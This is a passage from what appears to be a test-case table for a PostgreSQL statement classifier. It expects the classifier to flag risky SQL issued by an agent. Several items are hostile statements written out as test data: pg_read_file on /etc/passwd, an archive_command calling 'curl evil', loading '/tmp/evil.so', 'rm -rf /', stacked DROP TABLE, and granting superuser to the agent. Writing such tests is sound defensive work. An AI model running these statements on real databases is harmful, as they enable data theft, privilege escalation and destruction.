  { name: 'disable row level security', sql: 'ALTER TABLE users DISABLE ROW LEVEL SECURITY', expect: { ok: true, kind: 'ddl', flags: ['row-security-change'] } },
  { name: 'create index', sql: 'CREATE INDEX CONCURRENTLY i ON users (email)', expect: { ok: true, kind: 'ddl', commands: ['CREATE INDEX'], objects: [d('users')] } },
  { name: 'create view', sql: 'CREATE VIEW v AS SELECT * FROM secrets', expect: { ok: true, kind: 'ddl', commands: ['CREATE VIEW'], objects: [d('v'), r('secrets')] } },
  { name: 'create function', sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM users RETURNING 1'", expect: { ok: true, kind: 'ddl', commands: ['CREATE FUNCTION'], flags: ['create-function', 'nested-dml'], objects: [w('users')] } },
  { name: 'create function with dollar-quoted sql body', sql: "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$", expect: { ok: true, kind: 'utility', flags: ['create-function', 'dangerous-function'] } },
  { name: 'create function with unparseable sql body', sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DEL/**/ETE FROM users'", expect: parseError },
  { name: 'plpgsql body stays opaque', sql: "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$", expect: { ok: true, kind: 'ddl', flags: ['create-function'], absentFlags: ['nested-dml'] } },
  { name: 'create function with sql body', sql: 'CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END', expect: { ok: true, kind: 'ddl', flags: ['create-function'], objects: [w('users')] } },
  { name: 'create procedure', sql: 'CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN COMMIT; END $$', expect: { ok: true, kind: 'ddl', commands: ['CREATE PROCEDURE'], flags: ['create-function'] } },
  { name: 'create trigger', sql: 'CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()', expect: { ok: true, kind: 'ddl', flags: ['create-trigger'], objects: [d('users')] } },
  { name: 'create rule with delete action', sql: 'CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM users', expect: { ok: true, kind: 'ddl', flags: ['create-rule', 'nested-dml'] } },
  { name: 'create schema with table', sql: 'CREATE SCHEMA s CREATE TABLE t (a int)', expect: { ok: true, kind: 'ddl', commands: ['CREATE SCHEMA'] } },
  { name: 'create extension', sql: 'CREATE EXTENSION IF NOT EXISTS dblink', expect: { ok: true, kind: 'ddl', commands: ['CREATE EXTENSION'], flags: ['create-extension'] } },
  { name: 'import foreign schema', sql: 'IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local', expect: { ok: true, kind: 'ddl', commands: ['IMPORT FOREIGN SCHEMA'] } },
  { name: 'comment on', sql: "COMMENT ON TABLE users IS 'x'", expect: { ok: true, kind: 'ddl', commands: ['COMMENT'] } },
  { name: 'security label', sql: "SECURITY LABEL FOR selinux ON TABLE users IS 'system_u:object_r:sepgsql_table_t:s0'", expect: { ok: true, kind: 'dcl', commands: ['SECURITY LABEL'] } },
  { name: 'refresh materialized view', sql: 'REFRESH MATERIALIZED VIEW CONCURRENTLY mv', expect: { ok: true, kind: 'write', commands: ['REFRESH MATERIALIZED VIEW'], objects: [w('mv')] } },
  { name: 'grant', sql: 'GRANT ALL ON users TO PUBLIC', expect: { ok: true, kind: 'dcl', commands: ['GRANT'], objects: [d('users')] } },
  { name: 'revoke', sql: 'REVOKE SELECT ON users FROM bob', expect: { ok: true, kind: 'dcl', commands: ['REVOKE'] } },
  { name: 'grant role', sql: 'GRANT pg_read_server_files TO agent', expect: { ok: true, kind: 'dcl', commands: ['GRANT'] } },
  { name: 'alter role password', sql: "ALTER ROLE bob WITH PASSWORD 'hunter2'", expect: { ok: true, kind: 'dcl', commands: ['ALTER ROLE'], flags: ['password'] } },
  { name: 'alter user superuser', sql: 'ALTER USER agent SUPERUSER', expect: { ok: true, kind: 'dcl', commands: ['ALTER ROLE'] } },
  { name: 'create role with password', sql: "CREATE ROLE eve LOGIN PASSWORD 'pw'", expect: { ok: true, kind: 'dcl', flags: ['password'] } },
  { name: 'create user mapping with password', sql: "CREATE USER MAPPING FOR agent SERVER s OPTIONS (user 'u', password 'p')", expect: { ok: true, kind: 'dcl', flags: ['password'] } },
  { name: 'drop role', sql: 'DROP ROLE bob', expect: { ok: true, kind: 'dcl', commands: ['DROP ROLE'] } },
  { name: 'alter default privileges', sql: 'ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC', expect: { ok: true, kind: 'dcl' } },
  { name: 'create policy', sql: 'CREATE POLICY p ON users USING (true)', expect: { ok: true, kind: 'dcl', flags: ['row-security-change'] } },
  { name: 'set role', sql: 'SET ROLE postgres', expect: { ok: true, kind: 'dcl', commands: ['SET ROLE'], flags: ['set-role'] } },
  { name: 'set local role', sql: 'SET LOCAL ROLE admin', expect: { ok: true, kind: 'dcl', flags: ['set-role'] } },
  { name: 'reset role', sql: 'RESET ROLE', expect: { ok: true, kind: 'dcl', flags: ['set-role'] } },
  { name: 'set session authorization', sql: 'SET SESSION AUTHORIZATION postgres', expect: { ok: true, kind: 'dcl', flags: ['set-session-authorization'] } },
  { name: 'set search_path', sql: 'SET search_path = evil, public', expect: { ok: true, kind: 'utility', commands: ['SET'], flags: ['set-search-path'] } },
  { name: 'set application_name', sql: "SET application_name = 'custodian/another-session'", expect: { ok: true, kind: 'utility', commands: ['SET'], flags: ['set-application-name'] } },
  { name: 'reset application_name', sql: 'RESET application_name', expect: { ok: true, kind: 'utility', commands: ['RESET'], flags: ['set-application-name'] } },
  { name: 'set standard_conforming_strings off', sql: 'SET standard_conforming_strings = off', expect: { ok: true, kind: 'utility', flags: ['parser-divergence-setting'] } },
  { name: 'set client_encoding', sql: "SET client_encoding = 'SJIS'", expect: { ok: true, kind: 'utility', flags: ['parser-divergence-setting'] } },
  { name: 'plain set', sql: 'SET statement_timeout = 0', expect: { ok: true, kind: 'utility', commands: ['SET'] } },
  { name: 'reset all', sql: 'RESET ALL', expect: { ok: true, kind: 'utility', commands: ['RESET'] } },
  { name: 'show', sql: 'SHOW search_path', expect: { ok: true, kind: 'read', commands: ['SHOW'] } },
  { name: 'discard', sql: 'DISCARD ALL', expect: { ok: true, kind: 'utility', commands: ['DISCARD'] } },
  { name: 'listen', sql: 'LISTEN channel', expect: { ok: true, kind: 'read', commands: ['LISTEN'], flags: ['listen'] } },
  { name: 'unlisten', sql: 'UNLISTEN *', expect: { ok: true, kind: 'read', flags: ['listen'] } },
  { name: 'notify', sql: "NOTIFY channel, 'payload'", expect: { ok: true, kind: 'write', commands: ['NOTIFY'], flags: ['notify'] } },
  { name: 'alter system', sql: "ALTER SYSTEM SET archive_command = 'curl evil'", expect: { ok: true, kind: 'utility', commands: ['ALTER SYSTEM'], flags: ['alter-system'] } },
  { name: 'load library', sql: "LOAD '/tmp/evil.so'", expect: { ok: true, kind: 'utility', commands: ['LOAD'], flags: ['load-library'] } },
  { name: 'vacuum', sql: 'VACUUM FULL users', expect: { ok: true, kind: 'utility', commands: ['VACUUM'] } },
  { name: 'analyze', sql: 'ANALYZE users', expect: { ok: true, kind: 'utility', commands: ['ANALYZE'] } },
  { name: 'cluster', sql: 'CLUSTER users USING users_pkey', expect: { ok: true, kind: 'utility', commands: ['CLUSTER'] } },
  { name: 'reindex', sql: 'REINDEX TABLE users', expect: { ok: true, kind: 'utility', commands: ['REINDEX'] } },
  { name: 'checkpoint', sql: 'CHECKPOINT', expect: { ok: true, kind: 'utility', commands: ['CHECKPOINT'] } },
  { name: 'call procedure', sql: 'CALL purge_users(30)', expect: { ok: true, kind: 'write', commands: ['CALL'], functions: ['purge_users'] } },
  { name: 'call with dangerous argument', sql: "CALL p(pg_read_file('/x'))", expect: { ok: true, kind: 'utility', flags: ['dangerous-function'] } },
  { name: 'declare cursor over delete-free select', sql: 'DECLARE c CURSOR FOR SELECT * FROM secrets', expect: { ok: true, kind: 'read', commands: ['DECLARE CURSOR'], flags: ['cursor'], objects: [r('secrets')] } },
  { name: 'fetch', sql: 'FETCH 10 FROM c', expect: { ok: true, kind: 'read', commands: ['FETCH'] } },
  { name: 'create database', sql: 'CREATE DATABASE x', expect: { ok: true, kind: 'ddl', commands: ['CREATE DATABASE'] } },
  { name: 'drop database', sql: 'DROP DATABASE prod', expect: { ok: true, kind: 'ddl', commands: ['DROP DATABASE'] } },
  { name: 'create language', sql: 'CREATE LANGUAGE plpython3u', expect: { ok: true, kind: 'ddl' } },
  { name: 'create subscription', sql: "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", expect: { ok: true, kind: 'ddl' } },
  { name: 'alter table owner', sql: 'ALTER TABLE users OWNER TO agent', expect: { ok: true, kind: 'ddl', objects: [d('users')] } },
  { name: 'rename table', sql: 'ALTER TABLE users RENAME TO users_old', expect: { ok: true, kind: 'ddl', objects: [d('users')] } },

  // --- malformed, hostile and edge input --------------------------------------------------------
  { name: 'NUL byte truncation attempt', sql: 'SELECT 1\u0000; DROP TABLE users', expect: { ok: false, code: 'SQL_INVALID_INPUT' } },
  { name: 'NUL inside string', sql: "SELECT 'a\u0000b'", expect: { ok: false, code: 'SQL_INVALID_INPUT' } },
  { name: 'lone surrogate', sql: 'SELECT 1 \uD800', expect: { ok: false, code: 'SQL_INVALID_INPUT' } },
  { name: 'garbage', sql: 'lorem ipsum dolor', expect: parseError },
  { name: 'unterminated string', sql: "SELECT 'abc", expect: parseError },
  { name: 'unterminated quoted identifier', sql: 'SELECT "abc', expect: parseError },
  { name: 'mysql comment syntax is not sql', sql: '# comment\nDELETE FROM users', expect: parseError },
  { name: 'mysql versioned comment', sql: 'SELECT 1 /*!50000 UNION SELECT password FROM users */', expect: { ok: true, kind: 'read', commands: ['SELECT'] } },
  { name: 'psql meta command', sql: '\\! rm -rf /', expect: parseError },
  { name: 'psql copy meta command', sql: "\\copy users to '/tmp/x'", expect: parseError },
  { name: 'trailing garbage after valid statement', sql: 'SELECT 1; DELETE', expect: parseError },
  { name: 'emoji identifiers', sql: 'SELECT "😀" FROM "表"', expect: { ok: true, kind: 'read', objects: [r('表')] } },
  { name: 'very long in-list', sql: `SELECT * FROM t WHERE id IN (${Array.from({ length: 5000 }, (_, i) => i).join(',')})`, expect: { ok: true, kind: 'read', commands: ['SELECT'] } },
  { name: 'many stacked statements', sql: `${'SELECT 1;'.repeat(500)} DELETE FROM users`, expect: { ok: true, kind: 'write', multiStatement: true } },
  { name: 'deep parentheses within limits', sql: `SELECT ${'('.repeat(200)}1${')'.repeat(200)}`, expect: { ok: true, kind: 'read' } },
  { name: 'deep parentheses beyond the parser', sql: `SELECT ${'('.repeat(30000)}1${')'.repeat(30000)}`, expect: parseError },
  { name: 'deeply nested function calls', sql: `SELECT ${'lower('.repeat(2000)}'x'${')'.repeat(2000)}`, expect: { ok: false, code: 'SQL_TOO_COMPLEX' } },
  { name: 'oversized input', sql: `SELECT '${'x'.repeat(1024 * 1024)}'`, expect: { ok: false, code: 'SQL_INPUT_TOO_LARGE' } },
];
